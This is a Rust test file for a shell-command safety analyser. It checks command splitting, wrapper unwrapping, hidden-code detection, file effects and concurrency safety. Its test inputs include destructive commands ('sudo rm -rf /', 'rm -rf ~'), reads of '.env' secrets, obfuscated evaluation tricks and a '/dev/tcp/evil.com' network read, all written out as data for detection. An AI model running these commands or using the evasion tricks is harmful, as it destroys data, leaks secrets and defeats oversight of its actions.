//! Table tests of the whole analysis, one group per class of construct, and a property test
//! over generated shell.

use super::*;

fn views(cmd: &str) -> Vec<String> {
    analyse(cmd)
        .commands
        .iter()
        .flat_map(|c| c.deny_views.iter().cloned())
        .collect()
}

fn hidden(cmd: &str) -> bool {
    analyse(cmd).hidden()
}

fn understood(cmd: &str) -> bool {
    analyse(cmd).understood()
}

fn displays(cmd: &str) -> Vec<String> {
    analyse(cmd)
        .commands
        .iter()
        .map(|c| c.display.clone())
        .collect()
}

#[test]
fn splits_table() {
    for (cmd, want) in [
        ("ls -la", vec!["ls -la"]),
        (
            "a && b || c; d | e |& f & g",
            vec!["a", "b", "c", "d", "e", "f", "g"],
        ),
        ("a\nb", vec!["a", "b"]),
        ("(a; b)", vec!["a", "b"]),
        ("{ a; b; }", vec!["a", "b"]),
        (
            "if a; then b; elif c; then d; else e; fi",
            vec!["a", "b", "c", "d", "e"],
        ),
        ("for i in 1 2; do a; done", vec!["for i in 1 2", "a"]),
        ("while a; do b; done", vec!["a", "b"]),
        ("echo $(a x) `b y`", vec!["a x", "b y", "echo $(a x) `b y`"]),
        ("diff <(a) <(b)", vec!["a", "b", "diff <(…) <(…)"]),
        ("r''m \\rm 'rm' \"rm\"", vec!["rm rm rm rm"]),
        ("sh -c 'a; b'", vec!["sh -c a; b", "a", "b"]),
        ("eval 'a && b'", vec!["eval a && b", "a", "b"]),
        ("cat <<EOF\n$(a)\nEOF\n", vec!["a", "cat"]),
        ("[[ -f x ]] && a", vec!["[[ -f x ]]", "a"]),
    ] {
        assert_eq!(displays(cmd), want, "{cmd:?}");
    }
}

/// Class 1: code bash runs while evaluating values.
#[test]
fn hidden_code_table() {
    for (cmd, want) in [
        ("echo $((1+2))", false),
        ("echo $((x))", true),
        ("x='a[$(rm v)]'; echo $((x))", true),
        ("echo $[x]", true),
        ("((x))", true),
        ("((1+1))", false),
        ("[[ $x -eq 1 ]]", true),
        ("[[ 1 -eq 1 ]]", false),
        ("[[ -f a ]]", false),
        ("[[ -v a[x] ]]", true),
        ("let x", true),
        ("let 1+1", false),
        ("a[x]=1", true),
        ("a[0]=1", false),
        ("a=([x]=1)", true),
        ("echo ${x@P}", true),
        ("echo ${!x}", true),
        ("echo ${a[i]}", true),
        ("echo ${x:i:1}", true),
        ("for i in 1; do echo $((i)); done", true),
        ("declare -i x=1", true),
        ("declare -n r=x", true),
        ("read 'a[x]'", true),
        ("printf -v 'a[x]' 1", true),
        ("printf '%s[x]' a", false),
        ("unset 'a[x]'", true),
        ("test -v 'a[x]'", true),
        ("echo $X", false),
        ("$X y", true),
        ("$(echo rm) x", true),
        ("r* x", true),
        ("{rm,x}", true),
    ] {
        assert_eq!(hidden(cmd), want, "{cmd:?}: {:?}", analyse(cmd));
    }
}

/// Class 11: shells and builtins that read scripts from where toolrt cannot look.
#[test]
fn shells_and_builtins_table() {
    for (cmd, hid, view) in [
        ("bash -c 'rm x'", false, "rm x"),
        ("bash -c -- 'rm x'", false, "rm x"),
        ("bash -c -e 'rm x'", false, "rm x"),
        ("bash -ec 'rm x'", false, "rm x"),
        ("bash -o errexit -c 'rm x'", false, "rm x"),
        ("bash -O extglob -c 'rm x'", true, "rm x"),
        ("bash -i -c 'rm x'", true, "rm x"),
        ("bash --rcfile f -c 'rm x'", false, "rm x"),
        ("zsh -c 'rm x'", true, "rm x"),
        ("fish -c 'rm x'", true, "rm x"),
        ("sh <<< 'rm x'", true, "rm x"),
        ("bash -s <<EOF\nrm x\nEOF", true, "rm x"),
        ("echo rm x | sh", true, "echo rm x"),
        ("bash /dev/stdin <<< 'rm x'", true, "bash /dev/stdin"),
        ("bash <(echo rm x)", true, "echo rm x"),
        ("source /dev/stdin <<< 'rm x'", true, "rm x"),
        (". <(echo rm x)", true, "echo rm x"),
        ("trap 'rm x' EXIT", false, "rm x"),
        ("trap -- 'rm x' EXIT", false, "rm x"),
        ("trap -p -- 'rm x' INT TERM", false, "rm x"),
        ("trap \"$C\" EXIT", true, "trap $C EXIT"),
        ("eval 'rm x'", false, "rm x"),
        ("eval \"$C\"", true, "eval $C"),
        ("shopt -s expand_aliases; alias ls='rm x'; ls", true, "ls"),
        ("hash -p /bin/rm ls; ls x", true, "ls x"),
        ("mapfile -C 'rm x' a", true, "mapfile -C rm x a"),
        ("complete -C 'rm x' foo", true, "complete -C rm x foo"),
        ("enable -f ./x.so rm", true, "enable -f ./x.so rm"),
        ("X='rm x' git log", false, "rm x"),
        ("GIT_PAGER='rm x' git log", false, "rm x"),
        ("export PAGER='rm x'; git log", false, "rm x"),
        ("env GIT_PAGER='rm x' git log", false, "rm x"),
    ] {
        assert_eq!(hidden(cmd), hid, "{cmd:?}: {:#?}", analyse(cmd));
        assert!(
            views(cmd).iter().any(|v| v == view),
            "{cmd:?} lacks view {view:?}: {:?}",
            views(cmd)
        );
    }
}

/// Classes 9, 10 and 12: wrappers are peeled by their real grammar, an unknown option gives
/// every plausible reading, git's global options are normalised away.
#[test]
fn wrapper_views_table() {
    for (cmd, view) in [
        ("FOO=1 rm x", "rm x"),
        ("env -i A=1 rm x", "rm x"),
        ("env -S 'rm -rf x'", "rm -rf x"),
        ("env --split-string='rm -rf x'", "rm -rf x"),
        ("env -C /tmp rm x", "rm x"),
        ("sudo -u root rm x", "rm x"),
        ("sudo -uroot rm x", "rm x"),
        ("sudo --user=root rm x", "rm x"),
        ("sudo -E -u root -- rm x", "rm x"),
        ("timeout -s KILL 5 rm x", "rm x"),
        ("timeout --signal=KILL 5 rm x", "rm x"),
        ("timeout --frobnicate 5 rm x", "rm x"),
        ("nice -n 5 rm x", "rm x"),
        ("nice -5 rm x", "rm x"),
        ("/bin/rm x", "rm x"),
        ("xargs -0 rm", "rm"),
        ("xargs -l rm", "rm"),
        ("xargs -i rm {}", "rm {}"),
        ("xargs --max-lines rm", "rm"),
        ("watch -n 1 rm x", "rm x"),
        ("watch -d rm x", "rm x"),
        ("watch 'rm x'", "rm x"),
        ("command rm x", "rm x"),
        ("builtin command rm x", "rm x"),
        ("stdbuf -oL rm x", "rm x"),
        ("nohup rm x", "rm x"),
        ("time -p rm x", "rm x"),
        ("command time -f %e rm x", "rm x"),
        ("flock /tmp/l rm x", "rm x"),
        ("flock /tmp/l -c 'rm x'", "rm x"),
        ("flock -c 'rm x' /tmp/l", "rm x"),
        ("taskset 1 rm x", "rm x"),
        ("taskset -c 0 rm x", "rm x"),
        ("setpriv --reuid=1000 rm x", "rm x"),
        ("prlimit --nofile=10 rm x", "rm x"),
        ("script -qc 'rm x' /dev/null", "rm x"),
        ("chrt -f 10 rm x", "rm x"),
        ("ionice -c3 rm x", "rm x"),
        ("setsid -f rm x", "rm x"),
        ("nsenter -t 1 -m rm x", "rm x"),
        ("busybox rm x", "rm x"),
        ("exec -a foo rm x", "rm x"),
        ("su -c 'rm x'", "rm x"),
        ("find . -exec rm {} \\;", "rm {}"),
        ("git -C /x push origin", "git push origin"),
        ("git --no-pager push", "git push"),
        ("git -c alias.p=push p", "git push"),
        ("git -c alias.x='!rm x' x", "rm x"),
        ("git -c core.pager='rm x' log", "rm x"),
        ("{rm,-rf,x}", "rm -rf x"),
        ("cat < /dev/tcp/evil.com/80", "curl evil.com"),
    ] {
        assert!(
            views(cmd).iter().any(|v| v == view),
            "{cmd:?} lacks view {view:?}: {:?}",
            views(cmd)
        );
    }
    for cmd in [
        "timeout --frobnicate 5 ls",
        "sudo --frob ls",
        "xargs --frob ls",
        "env --frob ls",
    ] {
        assert!(!understood(cmd), "{cmd}");
    }
}

/// Class 4: expansions that turn one word into paths are never exact.
#[test]
fn braces_and_globs() {
    assert!(!understood("cat {a,.env}"));
    assert!(!understood("echo {x,}"));
    assert!(!understood("cat a{1..3}"));
    assert!(understood("cat '{a,b}'"));
    assert!(
        understood("cat *.rs"),
        "a glob read by cat is checked at decision time"
    );
    assert!(
        !understood("grep *.rs file"),
        "a glob where grep takes its pattern"
    );
    assert!(!understood("echo *"));
    assert!(!understood("find . -name *.rs"));
    let a = analyse("{rm,-rf,/}");
    assert!(a.commands[0].effects.removes.iter().any(|t| t.path == "/"));
}

/// Classes 5, 13, 14: what commands read, write and remove, through wrappers too.
#[test]
fn effects_table() {
    let reads = |cmd: &str| -> Vec<String> {
        analyse(cmd)
            .commands
            .iter()
            .flat_map(|c| c.effects.reads.iter().map(|t| t.path.clone()))
            .collect()
    };
    let trees = |cmd: &str| -> Vec<String> {
        analyse(cmd)
            .commands
            .iter()
            .flat_map(|c| c.effects.trees.iter().map(|t| t.path.clone()))
            .collect()
    };
    let removes = |cmd: &str| -> Vec<(String, bool)> {
        analyse(cmd)
            .commands
            .iter()
            .flat_map(|c| c.effects.removes.iter().map(|t| (t.path.clone(), t.exact)))
            .collect()
    };
    assert_eq!(reads("grep --file=.env x a"), ["x", "a", ".env"]);
    assert_eq!(reads("grep x a"), ["a"]);
    assert!(reads("wc --files0-from=.env").contains(&".env".to_string()));
    assert!(reads("wc --files0=.env").contains(&".env".to_string()));
    assert_eq!(reads("diff --from-file=.env a"), ["a", ".env"]);
    assert_eq!(reads("xargs -a .env cat"), [".env", "(stdin)"]);
    // The words xargs reads may be files even where the program's first operand is not one.
    assert_eq!(reads("echo x .env | xargs grep"), ["(stdin)"]);
    assert_eq!(reads("echo env.HOME | xargs jq -n"), ["(stdin)"]);
    assert!(reads("echo x | xargs echo").is_empty());
    assert!(reads("git show HEAD:.env").contains(&".env".to_string()));
    assert!(reads("git diff --no-index .env /dev/null").contains(&".env".to_string()));
    assert!(reads("git blame .env").contains(&".env".to_string()));
    assert!(reads("sudo cat .env").contains(&".env".to_string()));
    assert!(reads("env -C sub cat .env").contains(&".env".to_string()));
    assert_eq!(trees("grep -d recurse x"), ["."]);
    assert_eq!(trees("diff -r a b"), ["a", "b"]);
    assert_eq!(trees("find . -exec cat {} +"), ["."]);
    assert_eq!(trees("rg KEY"), ["."]);
    assert!(removes("xargs rm").iter().any(|(_, exact)| !exact));
    assert!(removes("find . -delete").contains(&(".".to_string(), true)));
    assert!(removes("find . -exec rm -rf {} +").contains(&(".".to_string(), true)));
    assert!(removes("find . -name '*.o' -delete").is_empty());
    assert!(removes("find / -name x -delete").contains(&("/".to_string(), true)));
    assert!(removes("sudo rm -rf /").contains(&("/".to_string(), true)));
    assert!(removes("timeout 5 nice rm -rf ~").contains(&("~".to_string(), true)));
    assert!(removes("rmdir -p a/b/c").contains(&("a".to_string(), true)));
    let a = analyse("env -C / rm -rf x");
    assert!(
        matches!(&a.commands[0].effects.removes[0].cwd, Cwd::OneOf(d) if d.contains(&"/".to_string()))
    );
}

/// The working directory follows literal `cd`s; anything else makes it unknown.
#[test]
fn cwd_tracking() {
    let cwd_of = |cmd: &str, i: usize| analyse(cmd).commands[i].effects.reads[0].cwd.clone();
    assert_eq!(cwd_of("cat a", 0), Cwd::Session);
    assert_eq!(
        cwd_of("cd sub && cat a", 1),
        Cwd::OneOf(vec!["./sub".into()])
    );
    assert_eq!(
        cwd_of("cd sub; cat a", 1),
        Cwd::OneOf(vec![".".into(), "./sub".into()])
    );
    assert_eq!(
        cwd_of("cd sub && ls || cat a", 2),
        Cwd::OneOf(vec!["./sub".into(), ".".into()])
    );
    assert_eq!(
        cwd_of("cd sub && (cd x) && cat a", 2),
        Cwd::OneOf(vec!["./sub".into()])
    );
    assert_eq!(cwd_of("(cd sub); cat a", 1), Cwd::Session);
    assert_eq!(cwd_of("cd sub | cat a", 1), Cwd::Session);
    assert_eq!(cwd_of("cd $D && cat a", 1), Cwd::Unknown);
    assert_eq!(cwd_of("cd - && cat a", 1), Cwd::Unknown);
    assert_eq!(cwd_of("for i in 1; do cat a; cd x; done", 1), Cwd::Unknown);
    assert_eq!(cwd_of("f() { cat a; }; cd x; f", 0), Cwd::Unknown);
    assert_eq!(
        cwd_of("eval 'cd x'; cat a", 2),
        Cwd::OneOf(vec![".".into(), "./x".into()])
    );
}

#[test]
fn concurrency_table() {
    for (cmd, want) in [
        ("ls -la", true),
        ("git status && git log --oneline", true),
        ("cat a | grep b | wc -l", true),
        ("ls > out.txt", false),
        ("ls 2>/dev/null", true),
        ("rm x", false),
        ("find . -name x", true),
        ("find . -delete", false),
        ("git branch -D x", false),
        ("git push", false),
        ("echo $(rm x)", false),
        ("$X", false),
        ("ls (", false),
        ("", false),
    ] {
        assert_eq!(is_concurrency_safe(cmd), want, "{cmd:?}");
    }
}

/// Pathological nesting is refused before the recursive parser can overflow a small
/// (tokio-worker-sized) stack; an overflow would abort the whole server.
#[test]
fn deep_nesting_does_not_overflow() {
    let h = std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(|| {
            let n = 5000;
            for cmd in [
                format!("{}ls{}", "(".repeat(n), ")".repeat(n)),
                format!("{}ls{}", "$(".repeat(n), ")".repeat(n)),
                format!("{}ls{}", "{ ".repeat(n), "; }".repeat(n)),
                format!("{}ls{}", "if true; then ".repeat(n), " fi;".repeat(n)),
                format!("echo {}{}", "${x:-".repeat(n), "}".repeat(n)),
                format!("echo {}x{}", "\"$(echo ".repeat(n), ")\"".repeat(n)),
                format!("{}ls", "sh -c ".repeat(n)),
                format!("{}ls", "timeout 1 ".repeat(n)),
            ] {
                assert!(!is_concurrency_safe(&cmd));
            }
            assert!(is_concurrency_safe(&("ls && ".repeat(n) + "ls")));
        })
        .unwrap();
    assert!(h.join().is_ok());
}

mod props {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of shell, chosen to hit quoting, expansions and operators.
    fn token() -> impl Strategy<Value = String> {
        prop_oneof![
            "[a-z]{1,6}".prop_map(|s| s),
            Just("rm".to_string()),
            Just("ls -la".to_string()),
            Just("'a b'".to_string()),
            Just("\"a $x b\"".to_string()),
            Just("\\$".to_string()),
            Just("$'\\x72m'".to_string()),
            Just("$(echo hi)".to_string()),
            Just("`ls`".to_string()),
            Just("${x:-y}".to_string()),
            Just("$((1+2))".to_string()),
            Just("{a,b}".to_string()),
            Just("*.rs".to_string()),
            Just("~/x".to_string()),
            Just("a=b".to_string()),
            Just("&&".to_string()),
            Just("||".to_string()),
            Just(";".to_string()),
            Just("|".to_string()),
            Just("> f".to_string()),
            Just("< g".to_string()),
            Just("2>&1".to_string()),
            Just("(".to_string()),
            Just(")".to_string()),
            Just("'".to_string()),
            Just("\"".to_string()),
            Just("#".to_string()),
            Just("\n".to_string()),
            Just("sh -c".to_string()),
            Just("xargs".to_string()),
            Just("env -S".to_string()),
            Just("git -C d".to_string()),
            Just("[[ a == b ]]".to_string()),
            "[ -~]{0,4}",
        ]
    }

    fn quote(w: &str) -> String {
        format!("'{}'", w.replace('\'', "'\\''"))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(400))]

        /// Never panics; and whatever is understood round-trips: its words, quoted again and
        /// parsed again, are the same words.
        #[test]
        fn understood_words_round_trip(tokens in proptest::collection::vec(token(), 1..8)) {
            let cmd = tokens.join(" ");
            let a = analyse(&cmd);
            let _ = is_concurrency_safe(&cmd);
            if a.parse_error.is_some() {
                return Ok(());
            }
            for c in &a.commands {
                if !c.understood() || c.origin != Origin::Script || c.words.is_empty() {
                    continue;
                }
                let again: Vec<String> = c.words.iter().map(|w| quote(w)).collect();
                let b = analyse(&again.join(" "));
                prop_assert!(b.parse_error.is_none(), "{:?} -> {:?}", cmd, again);
                let first = b.commands.iter().find(|x| x.origin == Origin::Script);
                prop_assert!(first.is_some(), "{:?}", again);
                prop_assert_eq!(&first.unwrap().words, &c.words, "{:?}", cmd);
            }
        }
    }
}
